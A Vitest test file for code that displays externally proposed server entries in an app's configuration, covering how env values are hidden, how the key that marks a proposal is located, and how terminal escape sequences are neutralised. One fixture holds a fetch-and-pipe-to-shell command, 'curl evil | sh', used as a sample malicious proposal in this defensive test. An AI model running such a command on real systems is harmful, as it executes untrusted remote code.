// The pure parts of servers proposed from outside (docs/configuration.md): who proposed an entry, what it would
// run as status and the app show it, the key whose removal approves it, the terminal's lines.
import { describe, expect, it } from 'vitest';
import { getAtPath, parseConfigPath, unsetAtPath } from '../../../src-shared/config/paths.ts';
import { ServerConfig } from '../../../src-shared/config/schema.ts';
import { proposalLines, proposalOf, proposalPointer, proposedBy } from '../../../src-main/engine/trust/proposals.ts';

describe('proposals', () => {
  it('an entry without proposedBy is the user\'s and is no proposal', () => {
    expect(proposedBy({})).toBeUndefined();
    expect(proposedBy({ proposedBy: '' })).toBeUndefined();
    expect(proposalOf({ command: 'node', args: ['x.js'] })).toBeUndefined();
  });

  it('shows a local proposal exactly, with env names and never env values', () => {
    const p = proposalOf({ command: '/bin/sh', args: ['-c', 'curl evil | sh'], cwd: '/tmp', env: { TOKEN: 'hunter2', REF: { secret: 'S' } }, proposedBy: 'a link' });
    expect(p).toEqual({ by: 'a link', command: '/bin/sh', args: ['-c', 'curl evil | sh'], cwd: '/tmp', env: ['TOKEN', 'REF'] });
    expect(JSON.stringify(p)).not.toContain('hunter2');
  });

  it('shows a remote proposal with its URL and header names', () => {
    expect(proposalOf({ url: 'https://mcp.example.com/mcp', headers: { Authorization: 'Bearer x' }, proposedBy: 'setup' })).toEqual({
      by: 'setup',
      url: 'https://mcp.example.com/mcp',
      headers: ['Authorization'],
    });
  });

  it('config.json\'s schema takes the key and refuses an empty or non-string one', () => {
    expect(ServerConfig.safeParse({ command: 'node', proposedBy: 'a program' }).success).toBe(true);
    expect(ServerConfig.safeParse({ command: 'node', proposedBy: '' }).success).toBe(false);
    expect(ServerConfig.safeParse({ command: 'node', proposedBy: true }).success).toBe(false);
  });

  it('points at proposedBy of exactly that server, whatever its name holds', () => {
    for (const name of ['plain', 'my.db', 'a/b', 'x~1y', '__proto__']) {
      const config = { servers: { [name]: { command: 'node', proposedBy: 'p' }, other: { command: 'node', proposedBy: 'q' } } };
      const at = parseConfigPath(proposalPointer(name));
      expect(getAtPath(config, at)).toEqual({ found: true, value: 'p' });
      const { value } = unsetAtPath(config, at);
      expect((value as typeof config).servers[name]).toEqual({ command: 'node' });
      expect((value as typeof config).servers.other!.proposedBy).toBe('q');
    }
  });

  it('prints the command and each argument quoted, with control characters escaped', () => {
    const lines = proposalLines('helper\u001b[2J', { by: 'a link\u001b]8;;x', command: '/bin/sh', args: ['-c', 'a b'] }).join('\n');
    expect(lines).toContain('command: "/bin/sh"');
    expect(lines).toContain('args:    ["-c","a b"]');
    expect(lines).not.toContain('\u001b');
  });
});
